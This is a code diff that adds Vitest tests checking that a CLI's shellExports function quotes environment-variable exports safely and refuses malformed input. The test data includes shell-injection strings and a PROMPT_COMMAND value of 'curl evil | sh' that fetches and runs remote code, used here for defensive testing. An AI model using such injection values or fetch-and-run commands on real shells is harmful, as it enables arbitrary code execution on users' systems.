@@ -1,5 +1,6 @@
+import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
-import { withoutSecrets } from '../../src/cli/common.js';
+import { shellExports, withoutSecrets } from '../../src/cli/common.js';
 
 describe('withoutSecrets (what the CLI prints of a key or store URI)', () => {
   it.each([
@@ -26,5 +27,41 @@ describe('withoutSecrets (what the CLI prints of a key or store URI)', () => {
     'pkcs11:token=wfid;object=k?module-path=/lib/p.so&pin-source=file:/run/pin',
   ])('leaves %s as it is', (uri) => {
     expect(withoutSecrets(uri)).toBe(uri);
+  });
+});
+
+describe('shellExports (what `wfid execution start --env` prints for eval)', () => {
+  /** Evaluates the exports in a real bash, as the guides do, and reads the variables back. */
+  const evaluate = (code: string, names: string[]) =>
+    execFileSync(
+      'bash',
+      ['-c', `eval "$1"; for n in ${names.join(' ')}; do printf '%s\\0' "\${!n}"; done`, '_', code],
+      { encoding: 'utf8' },
+    )
+      .split('\0')
+      .slice(0, -1);
+
+  it('quotes every value so that eval sets it byte for byte and runs nothing else', () => {
+    const values = {
+      WORKFLOW_ID_TOKEN: "abc'; touch /tmp/wfid-injected; echo '",
+      WORKFLOW_ID_TOKEN_REQUEST_URL: 'http://h/$(id)`id`"x"\\n',
+      WORKFLOW_ID_TOKEN_REQUEST_TOKEN: "''''",
+    };
+    const code = shellExports(values);
+    expect(evaluate(code, Object.keys(values))).toEqual(Object.values(values));
+    expect(code.split('\n')).toHaveLength(3);
+  });
+
+  it.each([
+    [{ 'X=1; echo injected; Y': 'v' }],
+    [{ PATH: '/tmp/evil' }],
+    [{ PROMPT_COMMAND: 'curl evil | sh' }],
+    [{ WORKFLOW_ID_TOKEN: 1 }],
+    [null],
+    [['WORKFLOW_ID_TOKEN=x']],
+  ])('refuses an answer that is not WORKFLOW_ID_* strings: %j', (env) => {
+    expect(() => shellExports(env)).toThrow(
+      expect.objectContaining({ code: 'ERR_BACKEND' }) as Error,
+    );
   });
 });
